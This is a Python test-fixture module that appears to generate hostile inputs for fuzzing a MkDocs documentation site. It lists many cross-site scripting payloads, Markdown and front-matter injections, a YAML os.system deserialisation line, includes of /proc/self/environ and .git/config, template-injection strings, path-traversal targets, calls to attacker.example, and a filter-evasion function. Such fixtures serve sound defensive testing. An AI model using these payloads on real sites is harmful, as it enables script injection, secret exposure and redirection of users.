"""What strangers might write: scripts in disguise, for every position of a page, and odd names and kinds of files."""

from __future__ import annotations

import random

RUN = "window.PWN=1"
ELSEWHERE = "https://attacker.example/x"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src={ELSEWHERE}.js></script>",
    '<script src="evil.js"></script>',
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{ELSEWHERE}.png">',
    f'<img srcset="{ELSEWHERE}.png 2x">',
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"></use></svg>',
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<video poster={ELSEWHERE}.png></video>",
    f"<audio src={ELSEWHERE}.mp3 autoplay></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div onmouseover={RUN}>x</div>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='java&#9;script:{RUN}'>x</a>",
    f"<a href='java\nscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript&colon;{RUN}'>x</a>",
    f"<a href=' \x01javascript:{RUN}'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<iframe src='{ELSEWHERE}'></iframe>",
    f"<iframe srcdoc='<script>parent.PWN=1</script>'></iframe>",
    f"<object data='{ELSEWHERE}'></object>",
    f"<embed src='{ELSEWHERE}'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<meta http-equiv='Refresh' content='0;javascript:{RUN}'>",
    f"<base href='{ELSEWHERE}/'>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f"<link rel=prefetch href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}.css';</style>",
    f"<p style=\"background:url({ELSEWHERE})\">x</p>",
    f"<form action='{ELSEWHERE}'><button>x</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<textarea><script>{RUN}</script>",
    f"<title><script>{RUN}</script>",
    f"<xmp><script>{RUN}</script>",
    "<plaintext>",
    "<!--",
    "</div></article></main></body></html>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><script>{RUN}</script> -->",
    f"<?php <script>{RUN}</script> ?>",
    f"<!doctype x [<script>{RUN}</script>]>",
    "<a id=__config></a>",
    "<a id=__search name=__search>x</a>",
    '<p data-md-component="announce" data-md-type=x>x</p>',
    '<div class="md-overlay md-dialog">x</div>',
    f"<a href=https://x.example ping={ELSEWHERE}>x</a>",
    "<x-y is=z>x</x-y>",
)
"""Elements that run a script, load or send something, leave the page, or break it."""

MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](java\\script:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html;base64,PHNjcmlwdD5QV049MTwvc2NyaXB0Pg==)",
    "[x](//attacker.example/)",
    "[x](\\\\attacker.example/)",
    "[x](file:///etc/passwd)",
    f"[x][evil]\n\n[evil]: javascript:{RUN}",
    f"[evil]\n\n[evil]: <javascript:{RUN}> \"x\"",
    f"<javascript:{RUN}>",
    f"![x]({ELSEWHERE}.png)",
    "![x](//attacker.example/x.png)",
    f"![x](javascript:{RUN})",
    f"![x](x.png \"\\\" onerror={RUN} x=\\\"\")",
    f"![\" onerror=\"{RUN}](x.png)",
    f"[x](x.md '\" onmouseover=\"{RUN}')",
    f"[a](claims/index.md \"x\" onclick=\"{RUN}\")",
    f"[x](claims/index.md){{: onclick={RUN} }}",
    f"# x {{: onclick={RUN} #__config }}",
    "# \\_\\_config",
    "# \\_\\_search",
    f"/// html | script\n{RUN}\n///",
    f"```{{.html onclick={RUN}}}\nx\n```",
    f"``` \"><script>{RUN}</script>\nx\n```",
    f"[^1]\n\n[^1]: <script>{RUN}</script>",
    f"[^\"><script>{RUN}</script>]\n\n[^\"><script>{RUN}</script>]: x",
    f"*[x]: <script>{RUN}</script>\n\nx",
    "--8<-- \"/proc/self/environ\"",
    "--8<-- \".git/config\"",
    "{{ config }}{% include \"main.html\" %}{{ self.__init__.__globals__ }}",
    "{% raw %}<script>window.PWN=1</script>{% endraw %}",
    "!!! note \"x\"\n    <script>window.PWN=1</script>",
    "<div markdown=1>\n<script>window.PWN=1</script>\n</div>",
    "<div markdown=block onclick=window.PWN=1>x</div>",
    "<!-- records: claims --><script>window.PWN=1</script>",
    "<!-- records: claims\n<script>window.PWN=1</script> -->",
    "<!-- records: ../../x -->",
    "[](claim:../../x)",
    "[x](claim:nimbus-preferred-provider?\"onclick=window.PWN=1)",
    "[x](entity:aurora){: onclick=window.PWN=1}",
    "RECORDTITLE RECORDDESCRIPTION RECORDIMAGE",
    "\x02script\x03 \x02wzxhzdk:0\x03 \x02amp\x03lt;",
    "[TOC]\n\n## <script>window.PWN=1</script>\n\n## `<script>window.PWN=1</script>`",
)
"""Markdown and the syntax of extensions that would do the same, if it were believed."""

FRONT_MATTER = (
    'title: "x</title><script>window.PWN=1</script>"',
    "title: 'x\"><img src=x onerror=window.PWN=1>'",
    'description: "\\"><meta http-equiv=refresh content=0;url=https://attacker.example/>"',
    'description: "x\\u0022 onload=\\u0022window.PWN=1"',
    "title: [<script>window.PWN=1</script>]",
    "title: {a: <script>window.PWN=1</script>}",
    "template: x.html",
    "template: ../../../mkdocs.yml",
    "template: main.html",
    "icon: ../../x",
    "icon: material/none",
    "tags: ['<script>window.PWN=1</script>']",
    "status: '<script>window.PWN=1</script>'",
    "subtitle: '<script>window.PWN=1</script>'",
    "author: '\"><script>window.PWN=1</script>'",
    "canonical_url: javascript:window.PWN=1",
    "hide: ['<script>window.PWN=1</script>']",
    "hide: navigation",
    "search: {exclude: '<script>window.PWN=1</script>'}",
    "own_search: '<script>window.PWN=1</script>'",
    "sharing: {type: article, image: 'https://attacker.example/x.png', alt: '\"><script>window.PWN=1</script>'}",
    "sharing: {type: '\"><script>window.PWN=1</script>'}",
    "sharing: x",
    "inherit: ../../../x.yml",
    "render_macros: true",
    "robots: noindex",
    "revision_date: x",
    "a: !!python/object/apply:os.system ['echo PWN']",
    "a: !ENV [PATH]",
    "a: &a [*a]",
    "a: &a [x, x]\nb: &b [*a, *a, *a]\nc: [*b, *b, *b]",
    "title: one\ntitle: <b>two</b>",
    "? [a]\n: b",
    "title: 1.10",
    "title: null",
    "title: ''",
    "title: 2024-13-45",
    "a: " + "[" * 2000,
    "  bad:\nindent: [",
    "title: 'unclosed",
)
"""Lines of front matter. MkDocs puts some of it into every page without escaping it."""

NAMES = (
    *("evil.js", "evil.mjs", "x.htm", "x.html", "x.xhtml", "x.svg", "x.svgz", "x.xml", "x.json", "x.css", "x.pdf"),
    *("x.png", "x.wasm", "x.php", "x.txt", "x.yml", "x.mdx", "x.markdown", "x.mkd", "x.MD", "x.md.html", "x", "x.md "),
    *("CNAME", "robots.txt", ".nojekyll", "404.html", "sitemap.xml", "sitemap.xml.gz", "index.html", "_headers"),
    *("assets/javascripts/bundle.min.js", "assets/factcheck.css", "assets/search.js", "assets/previews/site.png"),
    *("api/index.json", "api/x.md", "schemas/claim.schema.json", "schemas/x.md", "search/search_index.json"),
    *("pagefind/pagefind.js", "pagefind/x.md", "fr/index.md", "fr/x.md", "en/x.md", ".well-known/security.txt"),
    *("templates/x.html", ".overrides/main.html", "mkdocs.yml", "about/index.md", "About.md", "INDEX.md", "README.md"),
    *("claims/nimbus-300m.md", "claims/nimbus-300m/index.md", "claims/x/y/z/x.md", "404.md", "con.md", "aux.md"),
    *("nul/x.md", "-x.md", "x y.md", "x.y.md", "é.md", "e\u0301.md", "x\u202emd.md", "x\ny.md", "x\x1b[31m.md"),
    *("%2e%2e.md", "a:b.md", "a\\b.md", "a'b.md", '"><script>.md', "<img src=x onerror=PWN=1>.md", "..md", ".md"),
    *("~x.md", "x.md~", "#x.md#", "\udcff\udcfe.md", "x" * 200 + ".md", "x/" * 40 + "x.md", ".x/x.md", ".git/config"),
    *("RECORDID.md", "x/RECORDID.md", "zip.zip", "assets/x.md", "static/x.md", "javascripts/x.md"),
)
"""Names of files: kinds that a browser runs, places of the theme and of the API, and names that deceive."""

TARGETS = ("/etc/hostname", "/proc/self/environ", "../../facts/ratings.yml", "../en/index.md", ".", "/", "nowhere", "/dev/zero")
"""What links lead to."""


def disguised(text: str, random_: random.Random) -> str:
    """Return a payload as it is, or changed in a way that browsers overlook and simple searches do not."""
    way = random_.randrange(10)
    if way == 0:
        return "".join(random_.choice((c.lower(), c.upper())) for c in text)
    if way == 1:
        return text.replace("<", "<\0", 1)
    if way == 2:
        return text.replace(" ", random_.choice(("\n", "\t", "\f", "/", "\n\n")), 1)
    if way == 3:
        return text.replace("=", random_.choice((" = ", "\n=\n", "=\t")), 1)
    if way == 4:
        return text[: random_.randrange(len(text)) + 1]
    if way == 5:
        return text.replace("<", random_.choice(("&lt;", "&#60;", "\\<", "<<", "< ", "＜")), 1)
    return text
